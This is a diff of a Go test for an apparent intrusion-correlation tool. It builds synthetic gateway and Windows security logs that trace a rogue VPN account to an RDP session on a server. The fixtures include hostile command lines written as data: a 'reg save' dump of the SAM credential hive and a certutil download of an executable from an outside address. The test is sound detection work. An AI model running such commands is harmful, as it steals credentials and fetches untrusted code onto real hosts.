@@ -2,6 +2,7 @@ package accuracy_test
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -192,6 +193,43 @@ date=2026-03-01 time=08:00:00 devname="gw1" devid="FG1" logid="0100044547" type=
 			x.files["res1/auth.log"] = sessionOnServer
 			checkTouched(t, follow(t, lay(t, x.files), x.start), x.want, append(x.not, "res1/auth.log:2"))
 		})
+	}
+}
+
+// TestFindingsAtTheWayInAndAfterItAreOneIntrusion: one rule finds the account that was made on a gateway, others what was done on a server from its tunnel.
+// The walks meet at the address that the gateway gave, which passes each of them only while it was given.
+func TestFindingsAtTheWayInAndAfterItAreOneIntrusion(t *testing.T) {
+	security := func(id int, at string, data ...string) string {
+		pairs := map[string]string{}
+		for i := 0; i+1 < len(data); i += 2 {
+			pairs[data[i]] = data[i+1]
+		}
+		text, err := json.Marshal(map[string]any{"@timestamp": "2026-03-16T" + at + "Z", "winlog": map[string]any{"channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing", "event_id": id,
+			"record_id": 100, "computer_name": "res1.air.example", "event_data": pairs}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(text) + "\n"
+	}
+	runs := func(at, pid, parent, image, command string) string {
+		return security(4688, at, "SubjectLogonId", "0x5abc", "SubjectUserName", "adm", "NewProcessId", pid, "NewProcessName", `C:\Windows\System32\`+image, "CommandLine", command, "ProcessId", parent, "ParentProcessName", `C:\Windows\explorer.exe`)
+	}
+	out := follow(t, lay(t, map[string]string{
+		"gw/forti.log": `date=2026-03-16 time=07:55:00 devname="gw1" devid="FG1" logid="0100044547" type="event" subtype="system" level="information" logdesc="Object attribute configured" user="svc-x" ui="jsconsole" remip=203.0.113.9 action="Add" cfgpath="user.local" cfgobj="svc-x" msg="Add user.local svc-x"
+date=2026-03-16 time=08:00:00 devname="gw1" devid="FG1" logid="0101039424" type="event" subtype="vpn" level="information" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=11 remip=203.0.113.9 tunnelip=10.9.0.7 user="svc-x"
+`,
+		"res1/security.json": security(4624, "08:20:00", "TargetLogonId", "0x5abc", "TargetUserName", "adm", "LogonType", "10", "IpAddress", "10.9.0.7", "IpPort", "50122", "WorkstationName", "-") +
+			runs("08:21:00", "0x600", "0x500", "reg.exe", `reg save hklm\sam C:\ProgramData\s.hiv`) +
+			runs("08:22:00", "0x700", "0x500", "certutil.exe", `certutil -urlcache -split -f http://203.0.113.77/a C:\ProgramData\a.exe`),
+	}))
+	checkTouched(t, out, []string{"gw/forti.log:1", "gw/forti.log:2", "res1/security.json:1", "res1/security.json:2", "res1/security.json:3"}, nil)
+	for _, s := range out.Starts {
+		if !s.Established {
+			t.Errorf("%s stands apart: %s", s.Start, s.Why)
+		}
+	}
+	if !out.Established || out.Access.Host != "gw1" {
+		t.Errorf("established %t, %s; way in %+v", out.Established, out.Why, out.Access)
 	}
 }
 
